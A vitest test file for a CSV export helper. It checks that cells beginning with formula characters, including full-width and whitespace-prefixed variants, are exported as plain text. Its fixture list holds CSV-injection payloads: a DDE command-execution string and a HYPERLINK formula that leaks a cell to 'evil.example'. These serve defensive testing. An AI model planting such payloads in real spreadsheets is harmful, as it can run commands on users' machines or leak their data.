import { expect, test } from 'vitest'
import { csvOf } from './csv'

const cell = (text: string): string => csvOf([{ name: 'a', of: one => one }], [text]).slice('a\r\n'.length, -2)

/** Cells that spreadsheets ran as a formula, or asked a person to run. */
const FORMULAS = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("https://evil.example?leak="&A1,"Open")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
]

test.each(FORMULAS)('%j is a text in a spreadsheet, with everything it says', formula => {
  const read = cell(formula)
    .replace(/^"(.*)"$/s, '$1')
    .replaceAll('""', '"')
  expect(read).toBe(`'${formula}`)
})

test('a name in a header that is a formula is a text too', () => {
  expect(csvOf([{ name: '=1+1', of: () => 1 }], [])).toBe("'=1+1\r\n")
})

test('numbers below 0 stay numbers, and a text cannot end its cell', () => {
  expect(csvOf([{ name: 'a', of: one => one }], [-1.5])).toBe('a\r\n-1.5\r\n')
  expect(cell('a",=1+1,"')).toBe('"a"",=1+1,"""')
  expect(cell('a\r\n=1+1')).toBe('"a\r\n=1+1"')
})
